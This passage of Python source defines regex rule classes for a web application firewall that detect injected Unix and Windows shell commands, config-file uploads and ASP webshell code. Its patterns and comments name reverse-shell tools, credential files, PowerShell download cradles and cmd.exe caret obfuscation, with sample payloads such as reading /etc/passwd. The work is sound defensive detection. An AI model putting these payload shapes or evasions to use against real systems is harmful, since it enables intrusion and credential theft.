    r"cat|tac|more|less|head|tail|nl|sort|uniq|cut|tr|od|rev|find|grep|egrep|fgrep|awk|gawk|sed|ls|ll|ps|id|who|w|last|env|set|export|source|time|touch|kill|ping|sleep|echo|printf|mount|umount|tar|zip|unzip|gzip|gunzip|dig|host|file|stat|strings|diff|tee|cp|mv|rm|mkdir|rmdir|ln|df|du|free|top|uptime|date|cd|pwd|which|whereis|locate|stat|column|xargs|nohup|watch|crontab|passwd|hostname|su|sudo|doas|vi|vim|nano|ex|ed"
)
# A system directory (or the home, parent or current one) as a path argument.
_SYSPATH = r"[\"']?(?:~|\.{1,2})?/(?:etc|bin|sbin|usr|var|tmp|dev|proc|sys|home|root|opt|boot|lib|lib64|srv|mnt|run|media)\b|[\"']?(?:~|\.\.)/"
_ADMIN = r"(?:ansible-(?:config|console|doc|galaxy|inventory|playbook|pull|vault|test|lint|connection|runner)|chef-(?:client|solo|shell|run|vault|apply|zero|server-ctl)|salt-(?:call|minion|master|key|run|cp|ssh|cloud|api|syndic)|aa-(?:disable|complain|enforce|exec|status|teardown|remove-unknown|genprof|logprof|autodep|audit)|cscli|visudo|sudoedit|bsdtar|rmt(?:-[a-z]+)?)"
# A short option is one or two letters, a usual cluster (ls -la, ps -aux, ls -latr) or a find
# predicate (-name, -exec); another "-word" is search-engine negation ("cat toys -plush", "\"cat\" -dog").
_OPTION = r"(?:-[a-z]{1,2}|-(?:[lartSh]{3,4}|aux|ef[lH]?|rf|fr|i?name|type|exec|perm|user|newer|mtime|size|delete)|--[a-z][a-z-]{1,30})(?:" + SP + r"|=|$)"
_BARE = (
    # An English-word command with an option, a system path, or a globbed absolute path, possibly
    # after one path-like operand (find / -name x, find . -type f): ls -la, cat /etc/passwd,
    # cat /path/file.gz, tail -f x, cat /et*/*wd.
    I + VS + Q + r"(?:" + _BARE_WORDS + r")" + Q + r"(?:" + SP + r"+[./~][^\s&\"<]*)?" + SP + r"+(?:" + _OPTION + r"|" + _SYSPATH + r"|/[\w.*?-]{2,}/)",
    # The same words with a pipe into another command or a redirection.
    I + VS + Q + r"(?:" + _BARE_WORDS + r")" + Q + SP + r"+[^\s&\"<|>]+(?:" + SP + r"+[^\s&\"<|>]+)?\s*(?:\|\s*(?:grep|egrep|awk|sed|sh|bash|base64|xxd|nc|xargs)\b|[12]?>{1,2}\s*[/&~]|<\s+/|<\s*/[\w.-]*(?:/|\s*(?:$|[;&|\"'\r\n])))",
    # Tools that are not words: the value starts with the tool and goes on with an argument shape
    # (option, system path, IP, URL, a file with a script extension). Language and shell names
    # ("Ruby", "php", "NC" as a US state, "dash") need that argument; recon tools may stand alone.
    I + VS + Q + r"(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|nc|socat|telnet|chmod|chown|chgrp|chattr|useradd|usermod|userdel|adduser|groupadd|chpasswd|mkfifo|mknod|base64|xxd|hexdump|getent|systemctl|journalctl|pkill|killall|printenv|lsof|iptables|ip6tables|nft|traceroute|tcpdump|nmap|masscan|busybox|bsdtar|strace|ltrace|chroot|setsid|shred|dmesg|lsblk|lscpu|lsmod|insmod|rmmod|modprobe|sysctl|perf|rmt|bash|zsh|ksh|dash|csh|tcsh|sh|fish|mksh|yash|tclsh|python[23]?(?:\.\d+)?|perl|ruby|php|lua|node|irb|gcc|apt-get|aptitude|dpkg|yum|dnf|ssh|scp|sftp|rsync|tftp|openssl|ssh-copy-id|ssh-keygen)" + Q
    + SP + r"+(?:" + _OPTION + r"|" + _SYSPATH + r"|\d{1,3}(?:\.\d{1,3}){3}\b|(?:https?|ftp)://|[\w.-]+\.(?:sh|py|pl|rb|php|js|lua|elf|bin)\b)",
    I + VS + Q + r"(?:whoami|uname|ifconfig|ipconfig|netstat|printenv|getent|lsof|dmesg|lsblk|lscpu|lsmod|busybox|bsdtar|visudo|sudoedit|systeminfo|tasklist)" + Q + r"\s*(?:$|[&\"<;|`])",
    # Network tools with a host name: curl example.com, wget evil.example/x.sh (not ping, dig or
    # ssh: "ping john.doe about it").
    I + VS + Q + r"(?:wget|curl|ncat|netcat|nc|telnet|nslookup|traceroute|tftp)" + Q + SP + r"+(?:-[a-z]+" + SP + r"+)*[a-z0-9][\w-]*\.[a-z][\w.-]*",
    # Configuration-management and admin CLIs an intruder drives (ansible all -m ping,
    # ansible-vault decrypt x, chef-client -t, salt-call, cscli alerts list, visudo, aa-disable x):
    # hyphenated tool names that are no English words, as a whole value, with anything after.
    I + r"(?:" + VS + r"|(?:[;|&`]|\$\()\s*)" + Q + _ADMIN + Q + r"(?:\s|$|[&\"<;|])",
    I + r"(?:" + VS + r"|(?:[;|&`]|\$\()\s*)" + Q + r"ansible" + Q + SP + r"+[\w.*:!-]+" + SP + r"+-[a-z]\b",
    # A command prefix in front of a tool: time bsdtar, nohup ifconfig, strace curl x, sudo -u x id.
    I + VS + r"(?:time|nohup|strace|ltrace|sudo|doas|nice|ionice|stdbuf|timeout\s+\d+)" + SP + r"+(?:-[a-z]+" + SP + r"+)*(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|socat|busybox|bsdtar|chmod|chown|useradd|nmap|ansible[\w-]*|chef-(?:client|solo|shell|run|vault|apply)|cscli|visudo)\b",
    # A prefix that only ever runs another program (nohup, strace), then a command word and the
    # end of the value or an argument: "nohup who", "strace ls -la". ("time who" is English.)
    I + VS + r"(?:nohup|strace|ltrace|setsid|stdbuf|unbuffer|torify|proxychains4?)" + SP + r"+(?:-[a-z]+" + SP + r"+)*(?:" + "|".join(_CMD_WORDS) + "|" + _BARE_WORDS + r")(?:\s*(?:$|[;&|\"<])|" + SP + r"+[-/~$.])",
    # An executable in a bin directory as the whole value or with arguments (/usr/bin/perl -e x,
    # /usr/bin/python3 -m http.server, /bin/ab, bin/visudo).
    I + VS + r"(?:(?:/usr(?:/local)?/s?bin|/sbin)/[a-z][\w.+-]*|/bin/[a-z]{1,4}\d?)" + VE + r"|" + VS + r"(?:/usr(?:/local)?)?/s?bin/[a-z][\w.+-]*" + SP + r"+(?:-{1,2}[a-z]|/|[\"'])|(?:^|[=&\s\"/])s?bin/(?:ansible[\w-]*|chef[\w-]*|salt-[a-z]+|cscli|visudo|sudoedit|useradd|usermod|passwd|chpasswd|iptables|systemctl)\b",
    # A backslash in front of a command word skips aliases: \ls, \cat /etc/passwd.
    I + r"(?:^|[=;&|\n\"])\s*\\(?:ls|cat|id|whoami|uname|ps|rm|cp|mv|wget|curl|nc|bash|sh|env|find)(?:\s|$|[;&|\"<])",
)

# --- Uploading a file the shell or the web server reads as configuration. ---------------------
# A dotfile a shell, SSH or the web server loads (.bashrc, .profile, .htaccess, authorized_keys,
# .boto), or a PHP application's configuration (wp-config.php, settings.php), as a multipart file
# name or as a whole header value (X-Filename). Generic names (config.yml, data.json) pass.
_UPLOAD_NAMES = (
    r"\.(?:htaccess|htpasswd|htdigest|bashrc|bash_profile|bash_login|bash_logout|bash_history|profile|zshrc|zprofile|zshenv|zlogin|cshrc|tcshrc|kshrc|login|logout|boto|netrc|npmrc|pgpass|my\.cnf|user\.ini|gitconfig|git-credentials|viminfo|forward|rhosts|shosts)"
    r"|authorized_keys2?|id_(?:rsa|dsa|ecdsa|ed25519)|web\.config|wp-config[\w.-]*|settings(?:\.local)?\.php|\.env(?:\.[a-z]+)?"
)
_UPLOAD = (
    I + r"filename\*?\s*=\s*[\"']?(?:[^\"'\r\n;]*[/\\])?(?:" + _UPLOAD_NAMES + r")[\"'\s;]",
    I + r"^\s*(?:[^\s\"'/\\]*[/\\])?(?:" + _UPLOAD_NAMES + r")\s*$",
)

_WINDOWS = (
    I + r"(?:[;|&\n\r`]|\$\(|^)\s*(?:cmd(?:\.exe)?\s*/[ckr]|powershell(?:\.exe)?|pwsh|certutil(?:\.exe)?\s|bitsadmin|wmic\s|mshta\s|rundll32\s|regsvr32\s|cscript\s|wscript\s|net\s+(?:user|localgroup|view|share|use)\b|net1\s|type\s+(?:[a-z]:\\|%[a-z_]+%)|dir\s+(?:[a-z]:|\\|/[a-z])|(?:whoami|ipconfig|systeminfo|tasklist)\s*(?:$|[;&|\"<`)]|/[a-z])|taskkill\s|reg\s+(?:query|add|delete)\s|sc\s+(?:query|create|start)\s|schtasks\s|vssadmin\s|nltest\s|quser\b|qwinsta\b|netsh\s|ver\b\s*$|echo\s+%[a-z]+%)",
    # A value that is nothing but a separator and a cmd.exe builtin or recon tool run bare ("& set"
    # dumps the environment, "| ver", "&& hostname"): no field starts with "&" or "|" and ends
    # after one command word; the same words inside text ("Game & set") do not start the value.
    # The value starts after "=" (query string, form), a quote or ">" (JSON, XML) or a line break
    # (a multipart part); "q=&set" (an empty value, then a flag) has no space after its "&".
    I + r"(?:^|[=\n\"'>])\s*(?:[;|]{1,2}|&&?\s)\s*(?:set|ver|hostname|getmac|whoami|systeminfo|tasklist|ipconfig|netstat|qwinsta|quser|(?:date|time)\s+/t)\s*(?:$|[&\"'<\r\n])",
    # The same between two "&" with no space (``&set&``, ``&ver&``) where "&" cannot be the query's
    # own separator: a JSON string, an XML element, a multipart part's value (a form's ``x=&set&``
    # is an empty value and a flag).
    I + r"(?:^|[\n\"'>])[ \t]*&(?:set|ver|hostname|getmac|whoami|systeminfo|tasklist|ipconfig|netstat|qwinsta|quser)[ \t]*&[ \t]*(?:$|[\"'<\r\n])",
    # FOR loops: for [/d /r /l /f ["opts"] [path]] %var|%%var in (set) do command.
    I + r"(?:^|[\s&|(=/;\"'>])for\s+(?:/[a-z]\s+(?:\"[^\"]*\"\s+|\\\"[^\"]*\\\"\s+|[^\s%/]+\s+)?)*%%?[^\s%]{0,20}\s+in\s*\([^\n]*\)\s*do\b|(?:^|[\s&|(=/])for\s+(?:/[a-z]\s+(?:\"[^\"]*\"\s+|[^\s%/]+\s+)?)*%%?[^\s%]{1,3}\s+in\s*\(|(?:^|[\s&|(=/])if(?:\s+|\s*/i\s+)(?:not\s+)?[^\s=]+==[^\s=]+\s+[a-z]|(?:^|[\s&|(=])if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel)\s",
    I + r"(?:^|[\s&|(=/])if\s+(?:/i\s+)?(?:not\s+)?[^\s]*%[^\s]*\s*(?:==|lss|gtr|equ|neq|leq|geq)|(?:^|[\s&|(=/])if\s+(?:not\s+)?\S+\s*==\s*\S+\s+(?:goto|echo|call|exit|cmd|set)\b|(?:^|[\s&|(=/])if\s+(?:/i\s+)?(?:not\s+)?\(?\s*\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|(?:^|[\s&|(=/])if\s+(?:/i\s+)?(?:not\s+)?\"[^\"]*\"\s*==\s*\"|\bgoto\s+:?[a-z_]\w*\s*$",
    I + r"%(?:comspec|systemroot|windir|userprofile|appdata|temp|programfiles|computername|username|path)%|\^%|%[a-z_]+:~-?\d+,\d*%",
    I + r"\b(?:invoke-(?:expression|webrequest|restmethod|command|mimikatz|shellcode)|iex\s*\(|new-object\s+(?:system\.)?net\.webclient|downloadstring\s*\(|downloadfile\s*\(|start-process\b|set-mppreference|add-mppreference|-encodedcommand\b|-enc\s+[a-z0-9+/=]{16,}|frombase64string\s*\(|get-(?:content|childitem|process|wmiobject|itemproperty)\s|\[system\.(?:convert|text\.encoding|reflection)\]|-(?:nop|noprofile|windowstyle\s+hidden|executionpolicy\s+bypass|exec\s+bypass)\b)",
    I + r"\b(?:cmd|command)\.(?:exe|com)\b|\bpowershell\.exe\b|\\\\(?:localhost|127\.0\.0\.1|[a-z0-9.-]+)\\(?:c|admin|ipc)\$",
    # PowerShell aliases after a separator or as the value: iwr/irm (web requests), iex, iwmi/gwmi
    # (WMI), icm, saps, with a URL, an option, a variable or a script block.
    I + r"(?:[;|&\n\r`]|^|=)\s*(?:iwr|irm|iex|iwmi|gwmi|gcim|icm|saps|sajb)\s+(?:https?://|-[a-z]|\$|\(|\{|[\"'])",
    # Windows system tools with a "/x" switch or a redirection, after a separator (or glued:
    # &bcdboot/r x): regedit /E, bcdedit /set, icacls x /grant, vssadmin delete shadows /all.
    I + r"(?:[;|&\n\r`]|^|=)\s*(?:regedit|regedt32|bcdboot|bcdedit|icacls|cacls|takeown|attrib|wevtutil|fsutil|diskpart|vssadmin|wbadmin|cipher|forfiles|robocopy|xcopy|schtasks|taskkill|tasklist|systeminfo|msiexec|mountvol|nbtstat|sdelete|reagentc|bootrec|powercfg|auditpol|secedit|gpupdate|klist|cmdkey|runas|wmic|netsh|findstr|rmdir)(?:\.exe)?\s*(?:/[a-z?]|[<>]|\s+[a-z]:\\|\s+\w+\s+/[a-z])",
)


# cmd.exe escaping spliced into a command word (w^h^o^a^m^i, n^et u^ser, who""ami, w"h"o"a"m"i):
# cmd removes each caret and drops quotes from a command name, so the word runs; no prose has a
# caret or a quote *inside* a command name after a separator ("x^2", "C^2" are no command words).
_WIN_SPLICE = r"(?:\^|\"{1,2})"
_WIN_WORDS = (
    "whoami", "ipconfig", "systeminfo", "tasklist", "powershell", "pwsh", "certutil", "bitsadmin", "wmic",
    "mshta", "rundll32", "regsvr32", "cscript", "wscript", "net", "type", "dir", "cmd", "reg", "schtasks",
    "taskkill", "netsh", "nltest", "vssadmin", "ver", "hostname", "echo", "calc", "ping", "nslookup", "curl",
    "start", "copy", "del", "set", "findstr", "msiexec", "icacls", "attrib",
)


def _win_spliced(word: str) -> str:
    """``word`` with at least one caret or empty quote pair between two of its letters."""
    alternatives = (
        word[:k] + _WIN_SPLICE + word[k] + "".join(_WIN_SPLICE + "?" + ch for ch in word[k + 1 :])
        for k in range(1, len(word))
    )
    return "(?:" + "|".join(alternatives) + ")"


_WINDOWS_SPLICED = tuple(  # two regexes: AWS caps one at 8,192 characters
    I + r"(?:[;|&\n\r`]|^|=)\s*\^?(?:" + "|".join(_win_spliced(w) for w in words) + r")(?:\s|$|[;&|\"/.])"
    for words in (_WIN_WORDS[::2], _WIN_WORDS[1::2])
)

# Classic ASP / VBScript code evaluated by IIS (Execute "…", Eval, Server.CreateObject): the
# grammar of a webshell, not of a form field. String concatenation that splits a keyword
# (Ex"&"e"&"cute) is the usual disguise; an Excel formula ="a"&" "&"b" has no letters glued to
# its quotes.
_ASP = (
    I + r"[a-z]\"\s*&\s*\"[a-z]{1,12}\"\s*&\s*\"[a-z]",
    I + r"(?:^|[^\w.])execute(?:global)?\s*\(?\s*\"|\bserver\s*\.\s*(?:createobject|scripttimeout|execute|transfer|mappath)\s*[(=]|\bcreateobject\s*\(\s*\"(?:wscript\.shell|scripting\.filesystemobject|msxml2\.(?:server)?xmlhttp|adodb\.stream|shell\.application)",
    I + r":\s*on\s+error\s+resume\s+next\b|\bon\s+error\s+resume\s+next\s*:",
    # The one-line ASP shell: an ASP block that evaluates, or evaluation of the request itself
    # (<%eval request("x")%>, <% Execute(Request("c")) %>, <%@ Page Language="Jscript"%>). ERB and
    # EJS blocks (<%= title %>, <% if x %>) pass.
    I + r"<%\s*(?:=\s*)?(?:eval|execute(?:global)?|response\s*\.\s*write|server\s*\.)|<%@\s*page\s+language\s*=|\b(?:eval|execute(?:global)?)\s*\(?\s*request\s*[.(\[]",
)


CLASSES: tuple[RuleClass, ...] = (
    RuleClass("linux-posix", "UNIXShellCommands", alt_whitespace_all(_UNIX), chains=("DEC", "B64", "CMD"), caseful=_SHORT_END),
    RuleClass("linux-posix", "UNIXShellCommandsUnquoted", alt_whitespace_all(_UNIX_CMDLINE), chains=("CMD",)),
    # DEC only: CMD_LINE removes the splices itself, and each chain costs a compile.
    RuleClass("linux-posix", "UNIXCommandSplicing", alt_whitespace_all(_SPLICED), chains=("DEC",)),
    RuleClass("linux-posix", "UNIXCommandLineValue", alt_whitespace_all(_BARE), placements=("QUERYARGUMENTS", "BODY", "HEADER"), chains=("DEC", "B64")),
    RuleClass("linux-posix", "UNIXShellExpansion", _SHELL_EXPANSION, placements=("URIPATH", "QUERYARGUMENTS", "BODY", "HEADER")),
    RuleClass("linux-posix", "UNIXConfigFileUpload", _UPLOAD, placements=("BODY", "HEADER")),
    RuleClass("windows", "WindowsShellCommands", alt_whitespace_all(_WINDOWS + _WINDOWS_SPLICED), chains=("DEC", "B64")),
    RuleClass("windows", "ASPCodeInjection", _ASP, chains=("DEC", "B64")),
)
